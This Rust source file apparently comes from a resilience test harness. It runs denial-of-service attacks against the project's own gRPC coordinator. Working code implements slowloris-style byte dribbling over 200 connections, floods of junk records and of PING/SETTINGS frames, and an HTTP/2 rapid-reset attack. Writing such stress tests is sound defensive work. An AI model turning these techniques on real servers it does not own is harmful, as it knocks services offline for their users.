//! Attacks on a coordinator, each going on until it is stopped. All of an attack runs on one thread of its own, so that it
//! takes at most one core of the machine that it shares with its victim.

use std::net::SocketAddr;
use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};
use std::thread::JoinHandle;
use std::time::Duration;

use tengen_proto::v1::SubmitGameRequest;
use tengen_proto::v1::actor_service_client::ActorServiceClient;
use tengen_service::channel;
use tengen_service::credentials::Credentials;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::task::{JoinSet, yield_now};
use tokio_util::sync::CancellationToken;

use crate::http2::{self, CANCEL, DATA, END_HEADERS, HEADERS, PING, RST_STREAM, SETTINGS, call_headers, frame};
use crate::ledger::hello;

/// Connections of an attacker that dribbles.
pub const DRIBBLERS: usize = 200;
/// Time between the bytes of a connection that dribbles.
const DRIBBLE_EVERY: Duration = Duration::from_millis(50);
/// Connections of an attacker that floods.
const FLOODERS: usize = 8;
/// Bytes of a record in a flood: as many as a game has.
const JUNK_BYTES: usize = 4_096;
/// Whom a flood says it is.
const HOSTILE: &str = "hostile";
/// The call that dribblers and resetters make.
const SUBMIT: &str = "/tengen.v1.ActorService/SubmitGames";

/// A way to be hostile.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Attack {
    /// [`DRIBBLERS`] connections send a byte now and then: of their preface, of a call without a token, or of a large
    /// message in a call with one.
    Dribble,
    /// Records that are none, pings and settings, as fast as they are taken.
    Flood,
    /// Calls that are reset as soon as they are made, over ever new connections.
    Resets,
}

impl Attack {
    /// Every way.
    pub const ALL: [Attack; 3] = [Attack::Dribble, Attack::Flood, Attack::Resets];

    /// In a word.
    pub fn name(self) -> &'static str {
        match self {
            Attack::Dribble => "dribble",
            Attack::Flood => "flood",
            Attack::Resets => "resets",
        }
    }
}

/// Whom to attack, and with what.
#[derive(Clone, Debug)]
pub struct Target {
    /// The coordinator.
    pub addr: SocketAddr,
    /// The text of an actor's token that the attacker has got hold of.
    pub token: String,
    /// The same as a client shows it.
    pub credentials: Credentials,
}

/// An attack that goes on; it ends when this is dropped.
pub struct Attacker {
    stop: CancellationToken,
    thread: Option<JoinHandle<()>>,
    acts: Arc<AtomicU64>,
}

impl Attacker {
    /// Begins.
    pub fn start(attack: Attack, target: Target) -> Attacker {
        let (stop, acts) = (CancellationToken::new(), Arc::new(AtomicU64::new(0)));
        let (until, counted) = (stop.clone(), Arc::clone(&acts));
        let body = move || {
            let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build();
            let runtime = runtime.expect("a runtime can be built");
            runtime.block_on(async {
                let mut hands = hands(attack, &target, &counted);
                until.cancelled().await;
                hands.shutdown().await;
            });
        };
        let thread = std::thread::Builder::new().name("attacker".to_owned()).spawn(body);
        Attacker {
            stop,
            thread: Some(thread.expect("a thread can be started")),
            acts,
        }
    }

    /// What was done so far: bytes dribbled, messages sent, calls reset.
    pub fn acts(&self) -> u64 {
        self.acts.load(Ordering::Relaxed)
    }
}

impl Drop for Attacker {
    fn drop(&mut self) {
        self.stop.cancel();
        if let Some(thread) = self.thread.take() {
            // A panic of its own must not hide the one that unwinds here.
            let _ended = thread.join();
        }
    }
}

/// Every connection of an attack, each made again whenever it is closed.
fn hands(attack: Attack, target: &Target, acts: &Arc<AtomicU64>) -> JoinSet<()> {
    let mut hands = JoinSet::new();
    let many = match attack {
        Attack::Dribble => DRIBBLERS,
        Attack::Flood | Attack::Resets => FLOODERS,
    };
    for number in 0..many {
        let (target, acts) = (target.clone(), Arc::clone(acts));
        hands.spawn(async move {
            loop {
                match (attack, number % 4) {
                    (Attack::Dribble, _) => dribble(number, &target, &acts).await,
                    (Attack::Flood, 3) => ping(&target, &acts).await,
                    (Attack::Flood, _) => flood(&target, &acts).await,
                    (Attack::Resets, _) => reset(&target, &acts).await,
                }
                yield_now().await;
            }
        });
    }
    hands
}

/// Sends one byte after another until the connection is closed.
async fn dribble(number: usize, target: &Target, acts: &AtomicU64) {
    let token = number.is_multiple_of(2).then_some(target.token.as_str());
    let begun = match number % 4 {
        // Its preface never ends.
        3 => TcpStream::connect(target.addr).await.ok(),
        _ => http2::open(target.addr).await,
    };
    let Some(mut stream) = begun else { return };
    let bytes = match number % 4 {
        3 => http2::PREFACE.to_vec(),
        _ => {
            let head = frame(HEADERS, END_HEADERS, 1, &call_headers(SUBMIT, token));
            if stream.write_all(&head).await.is_err() {
                return;
            }
            // A message of eight megabytes, in frames of a hundred bytes.
            let mut message = vec![0, 0, 0x80, 0, 0];
            message.resize(100, 0);
            frame(DATA, 0, 1, &message)
        }
    };
    let mut answers = vec![0; 4_096];
    let mut ticks = tokio::time::interval(DRIBBLE_EVERY);
    for byte in bytes.iter().cycle() {
        tokio::select! {
            _ = ticks.tick() => {}
            read = stream.read(&mut answers) => match read {
                Ok(1..) => continue,
                _ => return,
            },
        }
        if stream.write_all(&[*byte]).await.is_err() {
            return;
        }
        acts.fetch_add(1, Ordering::Relaxed);
    }
}

/// Sends records that are none, in one stream after the other: each is ended when the actor that it names is suspended.
async fn flood(target: &Target, acts: &Arc<AtomicU64>) {
    let channel = channel::connect(&format!("http://{}", target.addr), &target.credentials).expect("a url");
    let mut client = ActorServiceClient::new(channel);
    loop {
        // Refused once it is suspended, and no reason to stop.
        let _registered = client.register(hello(HOSTILE)).await;
        let counted = Arc::clone(acts);
        let junk = std::iter::repeat_with(move || {
            counted.fetch_add(1, Ordering::Relaxed);
            SubmitGameRequest {
                actor_id: HOSTILE.to_owned(),
                record: vec![0xa5; JUNK_BYTES],
                ticket: 0,
            }
        });
        if let Ok(answer) = client.submit_games(tokio_stream::iter(junk)).await {
            let mut verdicts = answer.into_inner();
            while let Ok(Some(_)) = verdicts.message().await {}
        }
        yield_now().await;
    }
}

/// Sends pings and settings that all want an answer.
async fn ping(target: &Target, acts: &AtomicU64) {
    let Some(mut stream) = http2::open(target.addr).await else {
        return;
    };
    let mut frames = Vec::new();
    for _ in 0..64 {
        frames.extend(frame(PING, 0, 0, &[7; 8]));
        frames.extend(frame(SETTINGS, 0, 0, &[]));
    }
    let mut answers = vec![0; 16_384];
    while stream.write_all(&frames).await.is_ok() {
        acts.fetch_add(128, Ordering::Relaxed);
        if !matches!(stream.read(&mut answers).await, Ok(1..)) {
            return;
        }
    }
}

/// Makes calls and resets each at once, until the connection is closed.
async fn reset(target: &Target, acts: &AtomicU64) {
    let Some(mut stream) = http2::open(target.addr).await else {
        return;
    };
    let headers = call_headers(SUBMIT, Some(&target.token));
    let mut answers = vec![0; 16_384];
    for burst in 0_u32.. {
        let mut frames = Vec::new();
        for call in 0..64 {
            let id = 2 * (64 * burst + call) + 1;
            frames.extend(frame(HEADERS, END_HEADERS, id, &headers));
            frames.extend(frame(RST_STREAM, 0, id, &CANCEL));
        }
        if stream.write_all(&frames).await.is_err() {
            return;
        }
        acts.fetch_add(64, Ordering::Relaxed);
        tokio::select! {
            biased;
            read = stream.read(&mut answers) => if !matches!(read, Ok(1..)) { return },
            () = yield_now() => {}
        }
    }
}
